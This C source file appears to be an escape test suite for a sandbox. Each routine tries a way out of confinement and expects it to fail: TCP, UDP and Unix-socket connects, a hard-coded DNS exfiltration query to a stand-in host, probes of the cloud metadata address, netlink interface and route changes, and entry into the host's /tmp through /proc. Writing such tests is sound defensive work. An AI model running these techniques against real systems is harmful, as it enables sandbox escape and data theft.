/* Getting data out, or reaching somebody on the host. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

struct address {
  struct sockaddr_storage bytes;
  socklen_t length;
};

static struct address address_of(const char *host, long port) {
  struct address address = {0};
  struct sockaddr_in *four = (struct sockaddr_in *)&address.bytes;
  struct sockaddr_in6 *six = (struct sockaddr_in6 *)&address.bytes;
  if (inet_pton(AF_INET, host, &four->sin_addr) == 1) {
    four->sin_family = AF_INET;
    four->sin_port = htons((uint16_t)port);
    address.length = sizeof *four;
  } else if (inet_pton(AF_INET6, host, &six->sin6_addr) == 1) {
    six->sin6_family = AF_INET6;
    six->sin6_port = htons((uint16_t)port);
    address.length = sizeof *six;
  } else {
    broken(host);
  }
  return address;
}

static bool wait_for(int fd, short events) {
  struct pollfd one = {.fd = fd, .events = events};
  return poll(&one, 1, 500) > 0;
}

/* The host's canary greets everybody who comes. */
static void listen_for_greeting(const char *what, int fd) {
  char bytes[4096];
  if (!wait_for(fd, POLLIN)) return;
  ssize_t got = recv(fd, bytes, sizeof bytes, 0);
  if (got > 0) look_for_canary(what, bytes, (size_t)got);
}

static void try_connect(const char *what, int fd, const struct address *address) {
  if (fd < 0) {
    refused(what);
    return;
  }
  fcntl(fd, F_SETFL, O_NONBLOCK);
  if (connect(fd, (const struct sockaddr *)&address->bytes, address->length) != 0 && errno != EINPROGRESS) {
    refused(what);
    close(fd);
    return;
  }
  int error = ETIMEDOUT;
  socklen_t length = sizeof error;
  if (wait_for(fd, POLLOUT)) getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length);
  if (error == 0) {
    send(fd, "stolen", 6, MSG_NOSIGNAL);
    listen_for_greeting(what, fd);
    escaped("connected to %s", what);
  }
  errno = error;
  refused(what);
  close(fd);
}

/* host port … */
ATTACK(connect_tcp) {
  for (int i = 0; i + 1 < arg_count; i += 2) {
    struct address address = address_of(args[i], atol(args[i + 1]));
    try_connect(args[i], socket(address.bytes.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0), &address);
  }
}

ATTACK(connect_to_all_addresses) {
  char *list = joined(given("X_ADDRESSES"), "");
  for (char *host = strtok(list, ","); host != NULL; host = strtok(NULL, ",")) {
    struct address address = address_of(host, given_number("X_TCP"));
    try_connect(host, socket(address.bytes.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0), &address);
  }
}

static void send_packet(const char *host, long port, const char *bytes, size_t length) {
  struct address address = address_of(host, port);
  int fd = socket(address.bytes.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0 || sendto(fd, bytes, length, 0, (struct sockaddr *)&address.bytes, address.length) < 0) {
    refused(host);
    return;
  }
  /* To loopback something can always be sent; an answer or the canary's notes tell whether it arrived. */
  char answer[512];
  if (wait_for(fd, POLLIN) && recv(fd, answer, sizeof answer, 0) > 0) escaped("%s answered", host);
  errno = ECONNREFUSED;
  refused(host);
  close(fd);
}

ATTACK(send_udp) {
  char *list = joined(given("X_ADDRESSES"), "");
  for (char *host = strtok(list, ","); host != NULL; host = strtok(NULL, ",")) {
    send_packet(host, given_number("X_UDP"), "stolen", 6);
  }
}

/* A question for stolen-by-name.example, which is how data leave when nothing else does. */
static const char QUESTION[] =
    "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0estolen-by-name\x07"
    "example\x00\x00\x01\x00\x01";

ATTACK(ask_name_servers) {
  char *list = joined(given("X_NAME_SERVERS"), "");
  for (char *host = strtok(list, ","); host != NULL; host = strtok(NULL, ",")) {
    send_packet(host, 53, QUESTION, sizeof QUESTION - 1);
    struct address address = address_of(host, 53);
    try_connect(host, socket(address.bytes.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0), &address);
  }
}

ATTACK(read_resolver_settings) {
  char bytes[4096];
  int fd = open("/etc/resolv.conf", O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    refused("/etc/resolv.conf");
    return;
  }
  ssize_t got = read(fd, bytes, sizeof bytes - 1);
  bytes[got < 0 ? 0 : got] = '\0';
  if (strstr(bytes, "nameserver") != NULL) escaped("a name server is set");
  refused_by("/etc/resolv.conf", "NOTHING");
}

ATTACK(broadcast) {
  static const char *const HOSTS[] = {"255.255.255.255", "224.0.0.1", "224.0.0.251", "169.254.169.254"};
  for (size_t i = 0; i < 4; i++) {
    struct address address = address_of(HOSTS[i], given_number("X_UDP"));
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), on = 1;
    setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
    must_fail(HOSTS[i], sendto(fd, "stolen", 6, 0, (struct sockaddr *)&address.bytes, address.length));
    close(fd);
  }
}

ATTACK(fast_open) {
  struct address address = address_of("127.0.0.1", given_number("X_TCP"));
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  must_fail("sendto", sendto(fd, "stolen", 6, MSG_FASTOPEN, (struct sockaddr *)&address.bytes, address.length));
}

/* family type protocol … */
ATTACK(open_sockets) {
  for (int i = 0; i + 2 < arg_count; i += 3) {
    int fd = socket(atoi(args[i]), atoi(args[i + 1]) | SOCK_CLOEXEC, atoi(args[i + 2]));
    must_fail(args[i], fd);
  }
}

ATTACK(open_socket_with_upper_bits) {
  must_fail("AF_PACKET", syscall(41 /* socket */, 0xdeadbeef00000000UL | 17, SOCK_RAW, 0));
  must_fail("AF_VSOCK", syscall(41 /* socket */, 0xdeadbeef00000000UL | 40, SOCK_STREAM, 0));
}

ATTACK(pair_of_odd_family) {
  int ends[2];
  must_fail("socketpair", socketpair(30 /* TIPC */, SOCK_STREAM, 0, ends));
  must_fail("socketpair", socketpair(AF_INET, SOCK_STREAM, 0, ends));
}

ATTACK(ping) {
  static const char ECHO[8] = {8, 0, (char)0xf7, (char)0xff, 0, 0, 0, 0};
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);
  if (fd < 0) {
    refused("ping socket");
    return;
  }
  char *list = joined(given("X_OTHER_ADDRESSES"), "");
  for (char *host = strtok(list, ","); host != NULL; host = strtok(NULL, ",")) {
    if (strchr(host, ':') != NULL) continue;
    struct address address = address_of(host, 0);
    must_fail(host, sendto(fd, ECHO, sizeof ECHO, 0, (struct sockaddr *)&address.bytes, address.length));
  }
}

static long ask_netlink(int type, const void *body, size_t length) {
  struct {
    struct nlmsghdr header;
    char body[256];
  } request = {.header = {.nlmsg_type = (unsigned short)type, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE}};
  struct {
    struct nlmsghdr header;
    struct nlmsgerr error;
    char rest[1024];
  } answer;
  request.header.nlmsg_len = (uint32_t)(NLMSG_HDRLEN + length);
  memcpy(request.body, body, length);
  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  if (fd < 0) return -1;
  if (send(fd, &request, request.header.nlmsg_len, 0) < 0 || recv(fd, &answer, sizeof answer, 0) < 0) return -1;
  close(fd);
  errno = -answer.error.error;
  return answer.header.nlmsg_type == NLMSG_ERROR && answer.error.error < 0 ? -1 : 0;
}

ATTACK(make_interface) {
  struct {
    struct ifinfomsg link;
    struct rtattr kind_frame, kind;
    char name[8];
  } order = {.kind_frame = {.rta_len = 16, .rta_type = IFLA_LINKINFO}, .kind = {.rta_len = 12, .rta_type = 1}, .name = "veth"};
  must_fail("RTM_NEWLINK", ask_netlink(RTM_NEWLINK, &order, sizeof order));
}

ATTACK(add_address) {
  struct {
    struct ifaddrmsg address;
    struct rtattr local;
    unsigned char bytes[4];
  } order = {.address = {.ifa_family = AF_INET, .ifa_prefixlen = 24, .ifa_index = 1},
             .local = {.rta_len = 8, .rta_type = IFA_LOCAL},
             .bytes = {192, 0, 2, 2}};
  must_fail("RTM_NEWADDR", ask_netlink(RTM_NEWADDR, &order, sizeof order));
}

ATTACK(add_route) {
  struct {
    struct rtmsg route;
    struct rtattr out;
    uint32_t index;
  } order = {.route = {.rtm_family = AF_INET, .rtm_table = RT_TABLE_MAIN, .rtm_protocol = RTPROT_BOOT, .rtm_type = RTN_UNICAST},
             .out = {.rta_len = 8, .rta_type = RTA_OIF},
             .index = 1};
  must_fail("RTM_NEWROUTE", ask_netlink(RTM_NEWROUTE, &order, sizeof order));
}

ATTACK(interface_calls) {
  struct ifreq request = {.ifr_flags = IFF_UP | IFF_PROMISC};
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  strcpy(request.ifr_name, "lo");
  must_fail("SIOCSIFFLAGS", ioctl(fd, SIOCSIFFLAGS, &request));
  must_fail("SIOCSIFADDR", ioctl(fd, SIOCSIFADDR, &request));
  must_fail("SO_MARK", setsockopt(fd, SOL_SOCKET, 36, &(int){1}, sizeof(int)));
}

/* ---- unix sockets */

static void connect_unix_to(const char *path, bool abstract) {
  static const int TYPES[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET};
  struct address address = {0};
  struct sockaddr_un *name = (struct sockaddr_un *)&address.bytes;
  name->sun_family = AF_UNIX;
  size_t length = strlen(path);
  if (length >= sizeof name->sun_path - 1) broken("path too long");
  memcpy(name->sun_path + (abstract ? 1 : 0), path, length);
  address.length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length + 1);
  for (size_t i = 0; i < 3; i++) try_connect(path, socket(AF_UNIX, TYPES[i] | SOCK_CLOEXEC, 0), &address);
}

ATTACK(connect_unix) {
  for (int i = 0; i < arg_count; i++) connect_unix_to(args[i], false);
}

/* One that the host makes anew all the time, so that it is younger than any mount. */
ATTACK(connect_unix_made_later) {
  struct address address = {0};
  struct sockaddr_un *name = (struct sockaddr_un *)&address.bytes;
  name->sun_family = AF_UNIX;
  if ((size_t)snprintf(name->sun_path, sizeof name->sun_path, "%s", args[0]) >= sizeof name->sun_path) broken("path too long");
  for (int64_t until = clock_ms() + 2000; clock_ms() < until; sleep_ms(20)) {
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) break;
    if (connect(fd, (struct sockaddr *)name, sizeof *name) == 0) escaped("connected to %s", args[0]);
    close(fd);
  }
  refused(args[0]);
}

/* A fifo that the host reads, and one into which it has written. */
ATTACK(open_fifos) {
  int fd = open(args[0], O_WRONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd >= 0) escaped("%s has a reader", args[0]);
  refused(args[0]);
  fd = open(args[1], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd >= 0) read_for_canary(args[1], fd);
  refused_by(args[1], fd < 0 ? "EACCES" : "NOTHING");
}

ATTACK(connect_abstract) {
  for (int i = 0; i < arg_count; i++) connect_unix_to(args[i], true);
}

ATTACK(connect_unix_through_link) {
  char path[64];
  if (chdir("/tmp") != 0 || symlink(given("X_UNIX"), "s") != 0) broken("symlink");
  connect_unix_to("/tmp/s", false);
  snprintf(path, sizeof path, "/proc/%s/root/tmp", given("X_PID"));
  if (chdir(path) == 0) escaped("the host's /tmp was entered");
  refused(path);
}
